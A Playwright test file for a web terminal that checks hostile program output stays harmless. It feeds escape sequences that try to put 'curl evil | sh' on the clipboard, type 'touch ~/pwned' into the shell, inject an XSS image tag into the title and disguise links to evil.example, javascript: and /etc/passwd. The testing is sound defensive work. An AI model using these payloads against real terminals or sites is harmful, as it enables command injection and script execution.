import { readFile, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { expect, test } from './fixtures.ts'
import { placeOf, prompt, runs, screen, terminal, type } from './terminal.ts'

const ESC = '\x1b'
const BEL = '\x07'

/** Prints the bytes as a program on the node would, then a word that shows that all of it was read. */
async function print(styx: { userHome: string; page: import('@playwright/test').Page }, bytes: string) {
  await writeFile(join(styx.userHome, 'hostile'), bytes)
  const shell = terminal(styx.page, 'This machine')
  await runs(shell, 'clear; cat ~/hostile; echo; echo all-$((40 + 2))-read', 'all-42-read')
  return shell
}

test.beforeEach(async ({ styx }) => {
  await styx.page.getByRole('button', { name: 'Open a terminal' }).click()
  await prompt(terminal(styx.page, 'This machine'))
})

test('output puts nothing on the clipboard', async ({ styx }) => {
  const { page } = styx
  // What the user has there: typed into the palette's field and cut, for that needs no permission.
  const palette = page.getByRole('button', { name: /^Go to a cluster/ })
  await palette.click()
  const field = page.getByRole('textbox', { name: 'Search' })
  await field.fill('my own text')
  await field.press('Control+a')
  await field.press('Control+x')
  await page.keyboard.press('Escape')
  await expect(field).toBeHidden()
  await print(styx, `${ESC}]52;c;${Buffer.from('curl evil | sh').toString('base64')}${BEL}`)
  await palette.click()
  await field.press('Control+v')
  await expect(field).toHaveValue('my own text')
})

test('output types nothing into the shell', async ({ styx }) => {
  // Requests whose answers a terminal of old would type: title, size, colours, a setting, the answerback, the device.
  const asks = [
    `${ESC}[21t`,
    `${ESC}[18t`,
    `${ESC}]4;0;?${BEL}`,
    `${ESC}]11;?${BEL}`,
    `${ESC}P$qm${ESC}\\`,
    '\x05',
    `${ESC}]50;?${BEL}`,
  ]
  const shell = await print(styx, `${ESC}]2;touch ~/pwned\n${BEL}${asks.join('')}`)
  // Had anything been typed, it would run now. A shell without line editing shows the answered background colour: its line is given up.
  await styx.page.keyboard.press('Enter')
  await styx.page.keyboard.press('Control+c')
  await runs(shell, 'ls ~/pwned 2>&1 | head -1', /No such file|cannot access/)
})

test('a hostile title is only text, in its tab', async ({ styx }) => {
  const { page } = styx
  await print(styx, `${ESC}]0;<img src=x onerror=alert(1)> Terminate everything?${'A'.repeat(5000)}${BEL}`)
  await expect(page).toHaveTitle('Board · Styx')
  await expect(page.locator('img[src="x"]')).toHaveCount(0)
  const tab = page.getByRole('list', { name: 'Terminals' }).getByRole('button').first()
  await expect(tab).toHaveAttribute('title', /Terminate everything\?A+…$/)
  expect((await tab.getAttribute('title'))?.length).toBeLessThan(120)
  expect((await tab.boundingBox())?.width).toBeLessThan(400)
})

test('a link that says one thing and goes to another shows where it goes, and a script is no link', async ({ styx }) => {
  const { page } = styx
  const link = (to: string, says: string) => `${ESC}]8;;${to}${ESC}\\${says}${ESC}]8;;${ESC}\\\r\n`
  const shell = await print(
    styx,
    link('https://evil.example/x', 'https://good.example/') +
      link('javascript:alert(1)', 'press-me') +
      link('file:///etc/passwd', 'a-file'),
  )
  const opened: string[] = []
  page.context().on('page', (other) => opened.push(other.url()))
  const good = await placeOf(shell, 'https://good.example/')
  const refused = [await placeOf(shell, 'press-me'), await placeOf(shell, 'a-file')]
  await page.mouse.move(good.x, good.y)
  await expect(shell.getByRole('status')).toContainText('https://evil.example/x')
  await page.keyboard.down('Control')
  await page.mouse.click(good.x, good.y)
  await page.keyboard.up('Control')
  const question = page.getByRole('dialog', { name: 'Open a page of evil.example?' })
  await question.getByRole('button', { name: "Don't open" }).click()
  await page.keyboard.down('Control')
  for (const { x, y } of refused) await page.mouse.click(x, y)
  await page.keyboard.up('Control')
  await runs(shell, 'echo still-$((7 * 6))', 'still-42')
  expect(opened).toEqual([])
  expect(new URL(page.url()).pathname).toBe('/')
})

test('40 kB in one line, and every byte there is, leave a terminal that works', async ({ styx }) => {
  await print(styx, 'x'.repeat(40_000))
  const bytes = Buffer.from(Array.from({ length: 65_536 }, (_, at) => (at * 31 + (at >> 8)) % 256))
  await writeFile(join(styx.userHome, 'bytes'), bytes)
  const shell = terminal(styx.page, 'This machine')
  await type(shell, 'cat ~/bytes; reset; clear; echo sound-$((1 + 1)) > ~/sound\n')
  await expect.poll(() => readFile(join(styx.userHome, 'sound'), 'utf8').catch(() => '')).toBe('sound-2\n')
  await runs(shell, 'echo works-$((1 + 2))', 'works-3')
})

test('500 MB of output leave the page answering, and end with the last line @heavy', async ({ styx }) => {
  test.setTimeout(280_000)
  const { page } = styx
  const shell = terminal(page, 'This machine')
  await type(shell, "yes 'the quick brown fox jumps over the lazy dog' | head -c 500000000; echo; echo end-$((9 * 9))\n")
  const memory_MiB = async () => Number(/VmRSS:\s+(\d+)/.exec(await readFile(`/proc/${styx.pid}/status`, 'utf8'))?.[1]) / 1024
  const before_MiB = await memory_MiB()
  let most_MiB = 0
  const waits: number[] = []
  const views = page.getByRole('navigation', { name: 'Views' })
  for (const name of ['Events', 'Settings', 'Board', 'Events', 'Settings', 'Board']) {
    const began = performance.now()
    await views.getByRole('link', { name }).click()
    await expect(page.getByRole('heading', { level: 1, name })).toBeVisible()
    waits.push(performance.now() - began)
    most_MiB = Math.max(most_MiB, await memory_MiB())
  }
  await expect(screen(shell)).toContainText('end-81', { timeout: 240_000 })
  most_MiB = Math.max(most_MiB, await memory_MiB())
  expect(Math.max(...waits), 'ms for the slowest view').toBeLessThan(2000)
  expect(most_MiB - before_MiB, 'MiB more in the engine').toBeLessThan(150)
})
